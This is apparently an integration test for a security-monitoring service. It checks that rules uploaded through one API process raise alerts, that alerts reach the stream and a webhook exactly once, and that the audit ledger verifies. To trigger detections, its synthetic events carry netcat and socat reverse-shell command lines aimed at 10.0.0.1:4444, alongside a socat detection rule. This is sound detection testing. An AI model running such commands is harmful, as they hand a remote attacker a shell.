// What the API processes of a scaled deployment share, end to end: `vigil server` (ingest, worker and API in
// one process) and a second `vigil api` process on NATS JetStream (a private namespace on the shared server),
// the ClickHouse HTTP fixture and a fresh PostgreSQL database; a simulated agent streams through the ingest.
// Rules: a rule uploaded through the second API process is run by the worker (its alert is raised) and listed
// by the other API process; switched off, later matching events raise nothing. Alerts: every alert the worker
// raises reaches a browser on the API process's GET /stream (it follows the alerts stream), and a webhook sink
// created through one API process receives each alert exactly once although both API processes deliver. Audit:
// state changes go through both API processes, which write one ledger: it verifies, and each process proves
// the entries the other appended at the other's checkpoint.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SimulatedAgent } from '../../src/agent/simulator.ts';
import { JetStreamBus } from '../../src/bus/jetstream.ts';
import { alertIdOf } from '../support/events.ts';
import { ApiKeys } from '../../src/identity/api-key.ts';
import { encodeEntry, entryLeafHash, type LedgerEntry } from '../../src/ledger/entry.ts';
import { verifyInclusion } from '../../src/ledger/merkle.ts';
import { loadOrCreateCa } from '../../src/pki/pki.ts';
import { issueEnrollmentToken } from '../../src/stores/metadata/enrollment-tokens.ts';
import { openPostgresIdentityStore } from '../../src/stores/identity/postgres.ts';
import { PostgresMetadataStore } from '../../src/stores/metadata/postgres.ts';
import { createTempDatabase, type TempDatabase } from '../support/postgres.ts';
import { spawnClickHouseFixture } from '../fixtures/clickhouse-http-server.ts';
import { freePort, metricsHeaders, spawnRole, stopProcess, type RoleProcess } from '../fixtures/vigil-roles.ts';
import { until } from '../response/helpers.ts';

const NATS = 'nats://127.0.0.1:4222';
const namespace = `sha${randomBytes(4).toString('hex')}`;
let db: TempDatabase;
const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml
const SOCAT = { executable: '/usr/bin/socat', args: ['socat', 'tcp:10.0.0.1:4444', 'exec:/bin/sh'] };
const CUSTOM = '3e0c9a51-5e7b-4f0e-9d2a-5c0c00000001';
const CUSTOM_RULE = `title: socat shell (uploaded)
id: ${CUSTOM}
level: high
logsource: { category: process_creation, product: linux }
detection:
  sel: { Image: /usr/bin/socat }
  condition: sel
`;

let dir: string;
let clickhouse: Awaited<ReturnType<typeof spawnClickHouseFixture>>;
const running: RoleProcess[] = [];

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-shared-api-'));
  db = await createTempDatabase('shared');
  clickhouse = await spawnClickHouseFixture(join(dir, 'clickhouse'));
  mkdirSync(join(dir, 'pki'), { mode: 0o700 });
});

after(async () => {
  for (const p of running) await stopProcess(p.child, 'SIGKILL');
  await clickhouse?.stop();
  await JetStreamBus.deleteStreams(NATS, namespace);
  await db?.drop();
  rmSync(dir, { recursive: true, force: true });
});

/** A webhook receiver on loopback: the alert ids of the deliveries, in arrival order. */
async function webhookReceiver(): Promise<{ server: Server; url: string; ids: string[] }> {
  const ids: string[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => { body += d.toString(); });
    req.on('end', () => {
      ids.push((JSON.parse(body) as { alert: { id: string } }).alert.id);
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, url: `http://127.0.0.1:${(server.address() as { port: number }).port}/hook`, ids };
}

/** GET /stream on an API process: the ids of the `alert` events received so far. */
async function alertStream(http: string, key: string): Promise<{ ids: string[]; close(): void }> {
  const abort = new AbortController();
  const res = await fetch(`http://${http}/api/v1/stream`, { headers: { authorization: `Bearer ${key}` }, signal: abort.signal });
  assert.equal(res.status, 200);
  const ids: string[] = [];
  const reader = res.body!.getReader();
  let text = '';
  let ready!: () => void;
  const opened = new Promise<void>((r) => { ready = r; });
  void (async () => {
    for (;;) {
      const { value, done } = await reader.read().catch(() => ({ value: undefined, done: true }));
      if (done) return;
      text += Buffer.from(value!).toString();
      for (let end = text.indexOf('\n\n'); end >= 0; end = text.indexOf('\n\n')) {
        const [event, data] = text.slice(0, end).split('\n');
        text = text.slice(end + 2);
        if (event === 'event: ready') ready();
        if (event === 'event: alert') ids.push((JSON.parse(data.slice('data: '.length)) as { id: string }).id);
      }
    }
  })();
  await opened;
  return { ids, close: () => abort.abort() };
}

async function role(args: string[]): Promise<RoleProcess> {
  const p = await spawnRole(args, {
    ...process.env, VIGIL_NATS_URL: NATS, VIGIL_BUS_NAMESPACE: namespace, VIGIL_BUS_MAX_BYTES: String(256 * 2 ** 20), VIGIL_CLICKHOUSE_URL: clickhouse.url,
    VIGIL_POSTGRES_URL: db.url, VIGIL_PKI_DIR: join(dir, 'pki'),
    VIGIL_HEALTH: '127.0.0.1:0', VIGIL_LOG_LEVEL: 'warn', VIGIL_ALLOW_PRIVATE_ALERT_SINKS: '1',
  });
  running.push(p);
  return p;
}

/** The revision of the shared rule state a process's role runs (from its /metrics). */
async function ruleRevision(p: RoleProcess, roleName: string): Promise<number> {
  const text = await (await fetch(`http://${p.addresses.health}/metrics`, { headers: metricsHeaders })).text();
  return Number(new RegExp(`^vigil_rule_state_revision\\{role="${roleName}"\\} (\\d+)$`, 'm').exec(text)?.[1] ?? -1);
}

test('shared API state across processes: rule changes, the live alert stream, webhook deliveries, the audit ledger', { timeout: 150_000 }, async () => {
  const grpc = `127.0.0.1:${await freePort()}`;
  const server = await role(['server', '--grpc', grpc, '--http', '127.0.0.1:0']);
  const api = await role(['api', '--http', '127.0.0.1:0']);

  const pgUrl = db.url;
  const identity = await openPostgresIdentityStore({ connectionString: pgUrl });
  const { key } = await new ApiKeys({ store: identity }).create({ tenantId: 'default', name: 'shared', role: 'admin', createdBy: 'test' });
  await identity.close();
  const metadata = new PostgresMetadataStore({ connectionString: pgUrl });
  const { token } = await issueEnrollmentToken(metadata, 'default', 60_000, 1);
  await metadata.close();
  const agent = await SimulatedAgent.enroll(grpc, (await loadOrCreateCa(join(dir, 'pki'))).certPem, token, 'sim-shared');
  agent.connect();

  const call = async (via: RoleProcess, path: string, method = 'GET', body?: unknown) => {
    const res = await fetch(`http://${via.addresses.http}/api/v1${path}`, {
      method, body: body === undefined ? undefined : JSON.stringify(body),
      headers: { authorization: `Bearer ${key}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    });
    return { status: res.status, body: await res.json() as any };
  };
  const alertsOf = async (rule: string) => (await call(server, `/alerts?rule=${rule}&limit=100`)).body.alerts.map((a: { id: string }) => a.id) as string[];
  /** Sends matching events and a netcat marker behind them; resolves once the marker's alert exists (the batch was run). */
  const sendWithMarker = async (events: ReturnType<SimulatedAgent['syntheticEvents']>) => {
    const marker = agent.syntheticEvents(1, NETCAT);
    assert.equal((await agent.send([...events, ...marker])).accepted, events.length + 1);
    await until('the marker alert', async () => (await alertsOf(NETCAT_RULE)).includes(alertIdOf(NETCAT_RULE, marker[0])) || undefined, 30_000);
  };

  const hook = await webhookReceiver();
  // Every alert, repeats of a rule on the host included (the default window would send the first of them only).
  const sink = await call(api, '/alert-sinks', 'POST', { name: 'soc', url: hook.url, options: { repeat_window_s: 0 } });
  assert.equal(sink.status, 201, JSON.stringify(sink.body));
  assert.deepEqual((await call(server, '/alert-sinks')).body.alert_sinks.map((x: { id: string }) => x.id), [sink.body.id], 'the other API process lists the sink');
  const stream = await alertStream(api.addresses.http, key);
  try {
    // Upload through the API process; the worker (in the server process) runs it.
    const up = await call(api, '/rules', 'POST', { yaml: CUSTOM_RULE });
    assert.equal(up.status, 201, JSON.stringify(up.body));
    await until('the worker to run revision 1', async () => (await ruleRevision(server, 'worker')) >= 1 || undefined, 20_000);
    assert.equal((await call(server, `/rules/${CUSTOM}`)).body.source, 'custom', 'the other API process lists it');
    const shells = agent.syntheticEvents(2, SOCAT);
    await sendWithMarker(shells);
    assert.deepEqual((await alertsOf(CUSTOM)).sort(), shells.map((e) => alertIdOf(CUSTOM, e)).sort(), 'the uploaded rule raised its alerts');

    // Switch it off, through the other API process: later matches raise nothing.
    const off = await call(server, `/rules/${CUSTOM}/disable`, 'POST');
    assert.equal(off.status, 200);
    assert.equal(off.body.enabled, false);
    await until('the worker to run revision 2', async () => (await ruleRevision(server, 'worker')) >= 2 || undefined, 20_000);
    await until('the other API process to see it', async () => (await call(server, `/rules/${CUSTOM}`)).body.enabled === false || undefined, 20_000);
    await sendWithMarker(agent.syntheticEvents(2, SOCAT));
    assert.equal((await alertsOf(CUSTOM)).length, shells.length, 'no alert of a switched-off rule');

    // Every alert raised (the uploaded rule's and the markers') reached the stream of the API process, which
    // raised none of them, and the webhook once, although both API processes deliver from the alerts stream.
    const raised = [...await alertsOf(CUSTOM), ...await alertsOf(NETCAT_RULE)].sort();
    assert.equal(raised.length, shells.length + 2);
    await until('every alert on the stream', () => raised.every((id) => stream.ids.includes(id)) || undefined, 20_000);
    await until('every alert at the webhook', () => raised.every((id) => hook.ids.includes(id)) || undefined, 20_000);
    assert.deepEqual([...hook.ids].sort(), raised, 'each alert delivered once');

    // Both processes wrote the audit ledger: each proves the other's entry at the other's fresh checkpoint.
    const entries = (await call(server, '/ledger/entries?limit=1000')).body.entries as LedgerEntry[];
    const audited = (route: string) => entries.find((e) => e.action.startsWith('api.post ') && e.action.endsWith(route) && e.outcome === 'success');
    const [upload, disable] = [audited('/rules'), audited('/rules/:id/disable')];
    assert.ok(upload && disable, `both changes audited: ${entries.map((e) => e.action).join(', ')}`);
    for (const [via, signer, entry] of [[server, api, upload], [api, server, disable]] as const) {
      const cp = await call(signer, '/ledger/checkpoint', 'POST');
      assert.equal(cp.status, 200, JSON.stringify(cp.body));
      const proof = await call(via, `/ledger/proof/inclusion?index=${entry.index}&size=${cp.body.size}`);
      assert.equal(proof.status, 200, JSON.stringify(proof.body));
      const b = (text: string) => new Uint8Array(Buffer.from(text, 'base64'));
      assert.equal(proof.body.leaf_hash, Buffer.from(entryLeafHash(encodeEntry(entry))).toString('base64'));
      assert.equal(verifyInclusion(entry.index, cp.body.size, b(proof.body.leaf_hash), proof.body.proof.map(b), b(cp.body.root_hash)), true);
    }
    for (const via of [api, server]) {
      const verified = await call(via, '/ledger/verify', 'POST', {});
      assert.equal(verified.body.ok, true, JSON.stringify(verified.body));
    }
  } finally {
    stream.close();
    agent.close();
    hook.server.close();
  }
});
